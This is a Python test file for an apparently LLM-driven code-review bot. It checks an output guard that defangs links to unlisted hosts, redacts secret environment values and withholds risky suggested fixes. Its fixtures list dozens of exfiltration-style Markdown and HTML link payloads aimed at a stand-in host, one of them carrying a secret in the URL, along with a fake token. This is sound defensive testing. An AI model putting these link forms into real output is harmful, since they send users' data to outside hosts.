"""The pieces of the output guard: every Markdown/HTML/URL form of a link out, the allow-list, the redactor's view of
the environment, the guard over every text field of a Review, the ``link-hosts`` setting and the repository host."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from reviewbot import config
from reviewbot.errors import ConfigError
from reviewbot.github.event import read as read_event
from reviewbot.links import REMOVED_TEXT, LinkPolicy, leaks, neutralize
from reviewbot.llm.redact import MASK, Redactor, secret_name
from reviewbot.models import (
    AnalyzerStatus,
    Comment,
    Review,
    Severity,
    SkippedFile,
    Stats,
    Status,
    Summary,
    Verdict,
)
from reviewbot.publishable import Guard, publishable
from reviewbot.publishers import markdown, sarif
from reviewbot.publishers.serialize import review_data

POLICY = LinkPolicy.of(["github.com", "docs.example.com"])
EVIL = "evil.example"

HOSTILE_FORMS = [
    "![x](https://evil.example/p.png?d=DATA)",
    "[click](http://evil.example/?q=DATA)",
    "<https://evil.example/a>",
    "bare https://evil.example/b.",
    'html <img src="https://evil.example/i">',
    "<IMG SRC=https://evil.example/i>",
    "<img src=//evil.example/i>",
    "<a href='https://evil.example'>hi</a>",
    '<picture><source srcset="https://github.com/a.png 1x, https://evil.example/b 2x"></picture>',
    '<video poster="https://evil.example/p"></video>',
    '<div style="background:url(https://evil.example/bg)">x</div>',
    "ref [t][1]\n\n[1]: https://evil.example/r",
    "ref [t][]\n\n[T]: <https://evil.example/r> 'title'",
    "shortcut [go]\n\n[go]:\n  //evil.example/r",
    "![a][img]\n\n[img]: https://evil.example/i.png",
    "www.evil.example/x",
    "[https://evil.example/z](https://github.com/ok)",
    "[![i](https://evil.example/i)](https://github.com/ok)",
    "[a](https://evil.example/x)(//evil.example/y)",
    "[a](//evil.example/y)",
    "[a](https:\\\\evil.example/y)",
    "[a](https:evil.example/y)",
    "[a](HTTPS://EVIL.EXAMPLE:443/)",
    "[a](https://github.com@evil.example/)",
    "[a](https://github.com.evil.example/)",
    "[a](https://evil%2Eexample/)",
    "[a](<https://evil.example/x y>)",
    "[a](https&#58;//evil.example/x)",
    "[a](https\\://evil.example/x)",
    "text https&#58;//evil.example/x",
    "&#x68;ttps://evil.example/x",
    "&lt;img src=&quot;https://evil.example/i&quot;&gt;",
    "`https://evil.example/in-code`",
    "```\nhttps://evil.example/in-a-fence\n```",
    "[a](javascript:alert(1)) ![b](data:image/png;base64,AAAA)",
]


def rendered_targets(text: str) -> list[str]:
    """The href/src of everything a CommonMark renderer (raw HTML on) makes of ``text``."""
    html = MarkdownIt("commonmark").render(text)
    return [part.split('"', 1)[0] for part in html.split('href="')[1:] + html.split('src="')[1:]]


@pytest.mark.parametrize("text", HOSTILE_FORMS)
def test_every_form_of_a_link_out_is_removed_or_defanged(text: str) -> None:
    out = neutralize(text, POLICY)
    assert EVIL not in out
    assert not leaks(out, POLICY)
    assert not [t for t in rendered_targets(out) if "evil" in t.lower()]
    assert neutralize(out, POLICY) == out  # stable: publishing twice changes nothing


def test_what_the_reader_sees_in_place() -> None:
    assert neutralize("![x](https://evil.example/p.png?d=1)", POLICY) == "[image removed: evil[.]example]"
    assert neutralize("[click](http://evil.example/?q=1) now", POLICY) == "click [link removed: evil[.]example] now"
    assert neutralize("see https://evil.example/b.", POLICY) == "see hxxps[:]//evil[.]example/…."
    assert neutralize("<https://evil.example>", POLICY) == "hxxps[:]//evil[.]example"
    assert neutralize("ref [t][1]\n\n[1]: https://evil.example/r\n", POLICY) == "ref t [link removed: evil[.]example]\n\n"
    assert neutralize('<img src="https://evil.example/i">', POLICY) == "[image removed: evil[.]example] "


@pytest.mark.parametrize("text", [
    "see [the guide](https://docs.example.com/guide) and https://github.com/octo/demo/pull/1",
    "![diagram](https://github.com/octo/demo/raw/main/d.png)",
    "[relative](../docs/x.md), [anchor](#usage), [empty]()",
    "Use `os.path.join(a, b)`: a:b, x/y; 2 < 3 and 4 > 1; &lt;b&gt; stays as written.",
    "[REDACTED] in brackets, [a label] alone, and a [shortcut] without a definition",
])
def test_allowed_relative_and_plain_text_is_kept_as_is(text: str) -> None:
    assert neutralize(text, POLICY) == text


def test_a_subdomain_is_another_host() -> None:
    out = neutralize("https://gist.github.com/x and [d](https://api.docs.example.com)", POLICY)
    assert out == "hxxps[:]//gist[.]github[.]com/… and d [link removed: api[.]docs[.]example[.]com]"


def test_no_allowed_host_on_the_command_line_means_no_link_out() -> None:
    out = neutralize("[d](https://docs.example.com/x) https://github.com/o/r", LinkPolicy())
    assert out == "d [link removed: docs[.]example[.]com] hxxps[:]//github[.]com/…"


def test_text_the_rewrite_misses_is_escaped_whole_by_the_parser_check() -> None:
    text = "x ![a](https://evil.example/i) [b](//evil.example) <img src=https://evil.example/c> www.evil.example"
    out = neutralize(text, POLICY, rewrite=lambda t, _p: t)  # a rewrite that misses everything
    assert not leaks(out, POLICY) and not [t for t in rendered_targets(out) if "evil" in t]
    assert "https://" not in out and "www.evil" not in out


def test_unicode_hosts_are_shown_as_punycode_and_never_allowed() -> None:
    out = neutralize("[a](https://gіthub.com/x)", POLICY)  # a Cyrillic i
    assert out == "a [link removed: xn--gthub-n2e[.]com]"


# ---------------------------------------------------------------- the redactor's view of the environment


@pytest.mark.parametrize("name", ["GITHUB_TOKEN", "MY_SERVICE_TOKEN", "PGPASSWORD", "DB_PASSWD", "MYSQL_PWD",
                                  "AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY", "MYAPIKEY", "GCP_CREDENTIALS",
                                  "DEPLOY_PRIVATE_KEY", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "x_client_secret"])
def test_secret_looking_names(name: str) -> None:
    assert secret_name(name)


@pytest.mark.parametrize("name", ["PWD", "OLDPWD", "HOME", "PATH", "TOKENIZERS_PARALLELISM", "SSH_AUTH_SOCK",
                                  "REVIEWBOT_LLM_API_KEY_ENV", "GOOGLE_APPLICATION_CREDENTIALS_FILE",
                                  "ACTIONS_ID_TOKEN_REQUEST_URL"])
def test_names_that_only_point_at_a_secret_or_are_not_one(name: str) -> None:
    assert not secret_name(name)


def test_redactor_from_env_masks_every_secret_value() -> None:
    env = {"MY_SERVICE_TOKEN": "s3cr3t-value-123", "SHORT_TOKEN": "abc12", "PWD": "/home/me/project",
           "OLDPWD": "/home/me", "FAKE_LLM_KEY": "llm-key-value-98765", "HOME": "/home/me"}
    r = Redactor.from_env(env, names=["FAKE_LLM_KEY"])
    text = "a s3cr3t-value-123 b llm-key-value-98765 c abc12 d /home/me/project e Bearer authentication"
    assert r.redact(text) == f"a {MASK} b {MASK} c abc12 d /home/me/project e Bearer authentication"
    assert "llm-key-value-98765" in Redactor.from_env(env).redact("llm-key-value-98765")  # only when named


# ---------------------------------------------------------------- the guard over a whole Review

SECRET = "s3cr3t-value-123"
BAD = f"![x](https://evil.example/p?d={SECRET}) [c](http://evil.example) <https://evil.example/a> ghp_{'a' * 36}"


def _comment(**over: object) -> Comment:
    values: dict[str, object] = dict(
        path="app.py", line=3, end_line=3, severity=Severity.ERROR, origin="llm:m#0", body=BAD, score=0.8,
        reason=BAD, suggestion="x = 1\n", code=f"x = '{SECRET}'\n",
        verdict=Verdict(score=0.8, reason=BAD, steps={"suggestion": "shown", "note": BAD}),
    )
    values.update(over)
    return Comment(**values)  # type: ignore[arg-type]


def _hostile_review() -> Review:
    summary = Summary(
        files_reviewed=("app.py",),
        files_skipped=(SkippedFile("x.bin", BAD),),
        analyzers=(AnalyzerStatus("bandit", Status.ERROR, message=BAD, notes=(BAD,)),),
        notes=(BAD,),
        moved_to_summary=(_comment(suggestion=None),),
    )
    return Review((_comment(),), summary, Stats(notes=(BAD,)), rejected=(_comment(),))


def test_every_text_of_a_review_is_made_publishable(monkeypatch: pytest.MonkeyPatch) -> None:
    env = {"MY_SERVICE_TOKEN": SECRET}
    guard = Guard.for_run(config.Settings(), repo_hosts=["github.com"], environ=env)
    review = publishable(_hostile_review(), guard)
    for name, text in (("json", json.dumps(review_data(review))), ("markdown", markdown.render(review)),
                       ("sarif", json.dumps(sarif.sarif_log(review)))):
        assert EVIL not in text, name
        assert SECRET not in text and "ghp_aaaa" not in text, name
    assert review.comments[0].body.startswith("[image removed: evil[.]example]")
    assert review.comments[0].suggestion == "x = 1\n"  # nothing wrong with this fix: shown as verified
    assert review.comments[0].code == f"x = '{MASK}'\n"


def test_a_fix_that_would_publish_a_secret_or_a_new_outside_link_is_withheld() -> None:
    guard = Guard.for_run(config.Settings(), repo_hosts=["github.com"], environ={"MY_SERVICE_TOKEN": SECRET})
    code = 'URL = "https://pypi.org/simple"\n'
    cases = {
        f'URL = "{SECRET}"\n': "it contains a secret",
        'URL = "https://evil.example/x"\n': "it adds a link to evil[.]example",
        'URL = "https://pypi.org/simple?d=1"\n': "it adds a link to pypi[.]org",
        'URL = "https://pypi.org/simple"  # kept\n': "",  # the reviewed lines already have this URL
        'URL = "https://github.com/o/r"\n': "",
    }
    for suggestion, why in cases.items():
        assert guard.withheld(suggestion, code) == why, suggestion
    c = publishable(Review((_comment(suggestion='u = "https://evil.example"\n', code=""),), Summary()), guard)
    [shown] = c.comments
    assert shown.suggestion is None and shown.reason.endswith("fix not shown: it adds a link to evil[.]example")
    assert shown.verdict is not None and shown.verdict.steps["suggestion"] == "withheld: it adds a link to evil[.]example"


def test_text_that_cannot_be_made_safe_is_replaced(monkeypatch: pytest.MonkeyPatch) -> None:
    from reviewbot import links

    monkeypatch.setattr(links, "leaks", lambda text, policy: [("https", "evil.example")])
    assert links.neutralize("[a](https://evil.example)", POLICY) == REMOVED_TEXT


# ---------------------------------------------------------------- settings and the repository's host


def test_link_hosts_setting(tmp_path: Path) -> None:
    (tmp_path / ".reviewbot.toml").write_text('link-hosts = ["Docs.Example.com.", "docs.example.com"]\n')
    assert config.load(start=tmp_path, stop=tmp_path, environ={}).file.link_hosts == ("docs.example.com",)
    env = {"REVIEWBOT_LINK_HOSTS": "a.example, b.example"}
    assert config.load(start=tmp_path, stop=tmp_path, environ=env).file.link_hosts == ("a.example", "b.example")
    for bad in ("https://docs.example.com", "docs.example.com/x", "docs.example.com:443", "*.example.com", "a b"):
        (tmp_path / ".reviewbot.toml").write_text(f"link-hosts = [{bad!r}]\n".replace("'", '"'))
        with pytest.raises(ConfigError, match=r"\.reviewbot\.toml: link-hosts: .*is not a host name"):
            config.load(start=tmp_path, stop=tmp_path, environ={})


@pytest.mark.parametrize(("env", "host"), [
    ({}, "github.com"),
    ({"GITHUB_API_URL": "https://ghes.corp.example/api/v3"}, "ghes.corp.example"),
    ({"GITHUB_SERVER_URL": "https://GHES.corp.example/", "GITHUB_API_URL": "https://x/api/v3"}, "ghes.corp.example"),
])
def test_the_repository_host_of_an_action_run(env: dict[str, str], host: str, tmp_path: Path) -> None:
    run = read_event({"GITHUB_REPOSITORY": "octo/demo", "REVIEWBOT_PR_NUMBER": "7", **env}, workspace=tmp_path)
    assert run.server_host == host
